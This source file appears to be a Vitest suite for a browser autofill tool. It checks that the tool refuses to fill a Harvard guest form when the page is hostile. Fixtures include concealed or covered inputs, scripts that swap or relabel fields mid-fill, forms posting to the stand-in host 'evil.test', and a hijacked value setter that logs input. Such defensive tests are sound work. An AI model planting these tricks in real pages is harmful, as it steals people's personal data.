import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Driver, startDriver } from './browser/driver.ts';

vi.setConfig({ testTimeout: 20_000 });
let driver: Driver;
beforeAll(async () => {
  driver = await startDriver();
}, 60_000);
afterAll(() => driver.close());

const huid = '31415926';
const answers = { 'First name': 'Zoë', 'Last name': 'O’Canary', Email: 'zoe.canary@hms.harvard.edu', 'Harvard ID': huid };

/** A request form, with something else where the box for the Harvard ID stands, and a script of the page. */
const form = (
  id = '<input id=hu name=huid>',
  script = '',
  attributes = 'action="/forms/guest/submit"',
) => `<form id=req method=post ${attributes}>
  <label for=fn>First name</label><input id=fn name=first_name><label for=ln>Last name</label><input id=ln name=last_name>
  <label for=em>Email</label><input id=em name=email type=email><label for=hu>Harvard ID</label>${id}<button>Submit</button></form><script>${script}</script>`;

const everything = '[...document.querySelectorAll("input,textarea")].map((input) => input.value).join("|")';

it('fills all four fields of the form that nothing is wrong with', async () => {
  const { fill } = await driver.open(form());
  expect(await fill(answers)).toEqual({ 'First name': 'filled', 'Last name': 'filled', Email: 'filled', 'Harvard ID': 'filled' });
});

describe('a control that is not what the user sees is not written', () => {
  const hu = (attributes: string) => `<input id=hu name=huid ${attributes}>`;
  const inside = (style: string, attributes = '') => `<div style="${style}" ${attributes}>${hu('')}</div>`;
  it.each([
    ['not displayed', hu('style="display:none"'), 'hidden'],
    ['in something not displayed', inside('display:none'), 'hidden'],
    ['invisible', hu('style="visibility:hidden"'), 'hidden'],
    ['in something collapsed', inside('visibility:collapse'), 'hidden'],
    ['transparent', hu('style="opacity:0"'), 'hidden'],
    ['almost transparent', hu('style="opacity:.05"'), 'hidden'],
    [
      'faint through three ancestors',
      inside('opacity:.8', '')
        .replace('<input', '<div style="opacity:.8"><div style="opacity:.8"><input')
        .replace('</div>', '</div></div></div>'),
      'hidden',
    ],
    ['far to the left', hu('style="position:absolute;left:-9999px"'), 'hidden'],
    ['fixed above the window', hu('style="position:fixed;top:-500px"'), 'hidden'],
    ['far to the right, where scrolling would reach it', hu('style="position:absolute;left:100000px"'), 'hidden'],
    ['one pixel large', hu('style="width:1px;height:1px;border:0;padding:0"'), 'hidden'],
    ['without a size', hu('style="font-size:0;border:0;padding:0;height:0"'), 'hidden'],
    ['in a box without height', inside('height:0;overflow:hidden'), 'hidden'],
    [
      'below the edge of a small clipping box',
      inside('width:1px;height:1px;overflow:hidden;position:relative').replace('name=huid', 'name=huid style="position:absolute;top:40px"'),
      'hidden',
    ],
    ['clipped by a path', hu('style="clip-path:inset(50%)"'), 'hidden'],
    ['in something clipped by a path', inside('clip-path:circle(0)'), 'hidden'],
    ['clipped the old way', hu('style="position:absolute;clip:rect(0,0,0,0)"'), 'hidden'],
    ['scaled to nothing', hu('style="transform:scale(0)"'), 'hidden'],
    ['in something scaled down', inside('transform:scale(.01)'), 'hidden'],
    ['turned on its edge', hu('style="transform:rotateY(90deg)"'), 'hidden'],
    ['seen from behind', hu('style="transform:rotateY(180deg);backface-visibility:hidden"'), 'covered'],
    ['filtered away', inside('filter:opacity(0)'), 'hidden'],
    ['masked away', inside('mask-image:linear-gradient(transparent,transparent)'), 'hidden'],
    [
      'under a cover',
      `<div style="position:relative">${hu('')}<div style="position:absolute;inset:0;background:#fff"></div></div>`,
      'covered',
    ],
    [
      'below everything',
      `<div style="position:relative;z-index:0"><div style="position:absolute;inset:0;background:#fff;height:40px"></div><input id=hu name=huid style="position:relative;z-index:-1"></div>`,
      'covered',
    ],
    ['in a skipped part of the page', inside('content-visibility:hidden'), 'hidden'],
    ['in closed details', `<details><summary>More</summary>${hu('')}</details>`, 'hidden'],
    ['inert', inside('', 'inert'), 'not-editable'],
    ['hidden from assistive technology', inside('', 'aria-hidden=true tabindex=-1'), 'not-editable'],
    ['read-only', hu('readonly'), 'not-editable'],
    ['disabled', hu('disabled'), 'not-editable'],
    ['in a disabled fieldset', `<fieldset disabled>${hu('')}</fieldset>`, 'not-editable'],
  ])('%s', async (_, control, refusal) => {
    const { fill, value } = await driver.open(form(control));
    expect(await fill({ 'First name': 'Zoë', 'Harvard ID': huid })).toEqual({ 'First name': 'filled', 'Harvard ID': refusal });
    expect(await value('#hu')).toBe('');
  });

  it.each(['type=hidden', 'type=password', 'type=file'])('%s is not even a question', async (type) => {
    const { page, read } = await driver.open(form(hu(type)));
    expect((await read()).fields.map(({ id }) => id)).not.toContain('hu');
    expect(await page.evaluate(everything)).not.toContain(huid);
  });
});

describe('an honest control is written', () => {
  it.each([
    ['far below', `<div style="height:3000px"></div><input id=hu name=huid>`],
    ['in a scroller of its own', `<div style="height:100px;overflow:auto"><div style="height:600px"></div><input id=hu name=huid></div>`],
    [
      'under its own floating label',
      `<div style="position:relative"><input id=hu name=huid><label for=hu style="position:absolute;left:0;top:0;width:100%"></label></div>`,
    ],
    ['in a transformed panel', `<div style="transform:translateX(20px)"><input id=hu name=huid></div>`],
    ['white on white: only the preview helps', `<input id=hu name=huid style="color:#fff;background:#fff;border:0">`],
    [
      'below a header that stays',
      `<div style="position:fixed;top:0;left:0;right:0;height:200px;background:#eee"></div><div style="height:3000px"></div><input id=hu name=huid>`,
    ],
    ['in an open shadow root beside it: not that one', `<x-input></x-input><input id=hu name=huid>`],
  ])('%s', async (_, control) => {
    const { fill, value } = await driver.open(form(control));
    expect(await fill({ 'Harvard ID': huid })).toEqual({ 'Harvard ID': 'filled' });
    expect(await value('#hu')).toBe(huid);
  });

  it('leaves the page scrolled as it was', async () => {
    const { page, fill } = await driver.open(form('<div style="height:3000px"></div><input id=hu name=huid>'));
    await page.evaluate(() => scrollTo(0, 40));
    await fill(answers);
    expect(await page.evaluate(() => scrollY)).toBe(40);
  });

  it('is not covered by our own card', async () => {
    const opened = await driver.open(form());
    await opened.inOurs(
      `globalThis.card = document.createElement('div'); card.style.cssText = 'position:fixed;inset:0;z-index:9'; document.body.append(card); 0`,
    );
    expect(await opened.fill({ 'Harvard ID': huid })).toEqual({ 'Harvard ID': 'filled' });
  });

  it('may be a box that its label draws', async () => {
    const { page, fill } = await driver.open(
      `<form><input type=checkbox id=c style="position:absolute;opacity:0;width:0;height:0"><label for=c>Staff member</label></form>`,
    );
    expect(await fill({ 'Staff member': { kind: 'option', value: 'on', label: 'Staff member' } })).toEqual({ 'Staff member': 'filled' });
    expect(await page.locator('#c').isChecked()).toBe(true);
  });
});

describe('a page that changes during the fill gets nothing more', () => {
  it.each([
    [
      'takes the box away and plants a hidden one',
      "fn.addEventListener('input', () => { hu.remove(); document.body.insertAdjacentHTML('beforeend', '<input id=hu name=huid type=hidden>'); })",
      'field-changed',
    ],
    ['turns the box into a hidden one', "fn.oninput = () => { hu.type = 'hidden'; }", 'field-changed'],
    ['turns the box into a password', "fn.oninput = () => { hu.type = 'password'; }", 'field-changed'],
    [
      'gives the id of the box to another',
      "fn.oninput = () => { hu.id = 'zz'; document.body.insertAdjacentHTML('beforeend', '<input id=hu name=huid>'); }",
      'field-changed',
    ],
    [
      'plants a box of the same id before it',
      "fn.oninput = () => { document.body.insertAdjacentHTML('afterbegin', '<input id=hu name=huid>'); }",
      'field-changed',
    ],
    [
      'moves the box to another form',
      "fn.oninput = () => { document.body.insertAdjacentHTML('beforeend', '<form id=other></form>'); hu.setAttribute('form', 'other'); }",
      'field-changed',
    ],
    [
      'says something else beside the box',
      "fn.oninput = () => { document.querySelector('[for=hu]').textContent = 'Comments'; }",
      'field-changed',
    ],
    ['moves on to another address', "fn.oninput = () => history.pushState({}, '', '/forms/other/')", 'page-changed'],
  ])('%s', async (_, script, refusal) => {
    const { page, fill } = await driver.open(form(undefined, script));
    const results = await fill({ 'First name': 'Zoë', 'Harvard ID': huid, 'Last name': 'O’Canary' });
    expect([results['Harvard ID'], results['Last name']]).toEqual([refusal, 'page-changed']);
    expect(await page.evaluate(everything)).not.toMatch(/31415926|Canary/);
  });

  it.each([
    ['the last box goes while the first is written', 'fn.oninput = () => { hu.remove(); }'],
    [
      'another heading comes over the last box',
      "fn.oninput = () => { document.querySelector('[for=hu]').insertAdjacentHTML('beforebegin', '<h2>Sponsor information</h2>'); }",
    ],
    ['the heading over all boxes says something else', "fn.oninput = () => { title.firstChild.data = 'Guest'; }"],
    ['the heading is another element', "fn.oninput = () => { title.outerHTML = '<h2>Guest</h2>'; }"],
  ])('at once, not when that box has its turn: %s', async (_, script) => {
    const { page, fill } = await driver.open(`<h2 id=title>Your information</h2>${form(undefined, script)}`);
    expect(await fill(answers)).toMatchObject({
      'First name': 'filled',
      'Last name': expect.stringMatching(/changed/),
      'Harvard ID': 'field-changed',
    });
    expect(await page.evaluate(everything)).not.toMatch(/31415926|Canary/);
  });

  it('but not for a heading that counts what is answered, or for news beside the boxes', async () => {
    const script =
      "fn.oninput = () => { title.textContent = 'Your information (1 of 4)'; req.insertAdjacentHTML('beforeend', '<span>Looks good</span>'); fn.className = 'dirty'; }";
    const { fill } = await driver.open(`<h2 id=title>Your information (0 of 4)</h2>${form(undefined, script)}`);
    expect(new Set(Object.values(await fill(answers)))).toEqual(new Set(['filled']));
  });

  it('also when it leaves for another site', async () => {
    const { page, fill } = await driver.open(form(undefined, "fn.oninput = () => { location.href = 'https://evil.test/'; }"));
    const seen: string[] = [];
    page.on('request', (request) => seen.push(`${request.url()} ${request.postData() ?? ''}`));
    await fill(answers).catch(() => undefined);
    await page.waitForURL('https://evil.test/');
    expect(seen.join(' ')).not.toMatch(/31415926|Canary/);
  });
});

describe('an order is for one document, one address, one time', () => {
  it.each([
    ['another origin', { origin: 'https://it.hms.harvard.edu.evil.test' }, 'page-changed'],
    ['another path', { pathname: '/forms/other/' }, 'page-changed'],
    ['another form of the same path', { query: { sys_id: 'B' } }, 'page-changed'],
    ['an order that came too late', { expires: 1 }, 'expired'],
  ])('%s', async (_, changes, refusal) => {
    const { page, fill } = await driver.open(form(), { url: 'https://it.hms.harvard.edu/forms/guest/?id=x&sys_id=A' });
    expect(new Set(Object.values(await fill(answers, { pathname: '/forms/guest/', ...changes })))).toEqual(new Set([refusal]));
    expect(await page.evaluate(everything)).toBe('|||');
  });

  it('refuses the same order twice', async () => {
    const { fill, retype } = await driver.open(form());
    await fill({ 'First name': 'Zoë' }, { id: 'one' });
    await retype('#fn', '');
    expect(await fill({ 'First name': 'Zoë' }, { id: 'one' })).toEqual({ 'First name': 'expired' });
  });

  it('refuses a parameter that is there twice', async () => {
    const { fill } = await driver.open(form(), { url: 'https://it.hms.harvard.edu/forms/guest/?sys_id=A&sys_id=B' });
    expect(await fill({ 'First name': 'Zoë' }, { query: { sys_id: 'A' } })).toEqual({ 'First name': 'page-changed' });
  });

  it('writes nothing at all when a label is another than in the preview', async () => {
    const { page, read, fill } = await driver.open(form());
    await read();
    await page.evaluate(() => {
      const label = document.querySelector('[for=hu]');
      if (label) label.textContent = 'Supervisor’s Harvard ID';
    });
    const results = await fill(answers, { reread: false });
    expect([results['Harvard ID'], results['First name']]).toEqual(['field-changed', 'page-changed']);
    expect(await page.evaluate(everything)).toBe('|||');
  });
});

it('writes nothing at all when another heading stands over the boxes than in the preview', async () => {
  const { page, read, fill } = await driver.open(form());
  await read();
  await page.evaluate(() => document.querySelector('form')?.insertAdjacentHTML('afterbegin', '<h2>Sponsor information</h2>'));
  expect(new Set(Object.values(await fill(answers, { reread: false })))).toEqual(new Set(['field-changed']));
  expect(await page.evaluate(everything)).toBe('|||');
});

describe('a form that sends elsewhere gets nothing', () => {
  const elsewhere = 'https://evil.test';
  it.each([
    ['by its action', form(undefined, '', 'action="https://evil.test/c"'), elsewhere],
    ['by a button', form('<input id=hu name=huid><button formaction="https://evil.test/c">Send</button>'), elsewhere],
    ['by a button outside it', `${form()}<button form=req formaction="https://evil.test/c">Send</button>`, elsewhere],
    ['by the base of the page', `<base href="https://evil.test/">${form()}`, elsewhere],
    ['by mail', form(undefined, '', 'action="mailto:x@evil.test"'), 'mailto:'],
    [
      'whatever its inputs are called',
      form(
        `${[
          'getAttribute',
          'elements',
          'action',
          'id',
          'length',
          'parentNode',
          'tagName',
          'isConnected',
          'querySelectorAll',
          'ownerDocument',
          'localName',
          'getRootNode',
          'scrollTop',
        ]
          .map((name) => `<input name=${name}>`)
          .join('')}<input id=hu name=huid>`,
        '',
        'action="https://evil.test/c"',
      ),
      elsewhere,
    ],
  ])('%s', async (_, body, target) => {
    const { page, read, fill } = await driver.open(body);
    expect((await read()).sendsTo).toEqual([target]);
    expect(new Set(Object.values(await fill(answers)))).toEqual(new Set(['sends-elsewhere']));
    expect(await page.evaluate(everything)).not.toContain(huid);
  });

  it.each(['action="/forms/guest/submit"', '', 'action=""', 'action="javascript:void 0"'])('%s stays here', async (attributes) => {
    const { read } = await driver.open(form(undefined, '', attributes));
    expect((await read()).sendsTo).toEqual([]);
  });
});

it('fills a form whose inputs carry the names of properties', async () => {
  const names = [
    'parentNode',
    'isConnected',
    'localName',
    'getRootNode',
    'querySelectorAll',
    'scrollTop',
    'getBoundingClientRect',
    'children',
  ];
  const { fill } = await driver.open(form(`${names.map((name) => `<input name=${name}>`).join('')}<input id=hu name=huid>`));
  expect(new Set(Object.values(await fill(answers)))).toEqual(new Set(['filled']));
});

it('does not call a setter that the page has put on its own input or on all inputs', async () => {
  const script = `window.log = []; Object.defineProperty(hu, 'value', { set(v) { log.push(v); }, get() { return ''; } });
    Object.defineProperty(HTMLInputElement.prototype, 'value', { set(v) { log.push(v); }, get() { return ''; } });`;
  const { page, fill, inOurs } = await driver.open(form(undefined, script));
  expect(await fill({ 'Harvard ID': huid })).toEqual({ 'Harvard ID': 'filled' });
  expect(await page.evaluate('log')).toEqual([]);
  expect(await inOurs("document.querySelector('#hu').value")).toBe(huid);
});

it('leaves fields alone that no row names, hidden or not', async () => {
  const others = ['huid2', 'ssn', 'dob', 'passport']
    .map((name) => `<input name=${name} autocomplete=bday><input name=${name}h style="display:none">`)
    .join('');
  const { page, fill } = await driver.open(form(`<input id=hu name=huid>${others}`));
  await fill(answers);
  expect(await page.evaluate(everything)).toBe(`Zoë|O’Canary|zoe.canary@hms.harvard.edu|${huid}||||||||`);
});

it('touches no frame', async () => {
  const { page, fill } = await driver.open(`${form()}<iframe srcdoc="<label>Harvard ID<input id=hu></label>"></iframe>`);
  await fill(answers);
  expect(await page.frameLocator('iframe').locator('#hu').inputValue()).toBe('');
});
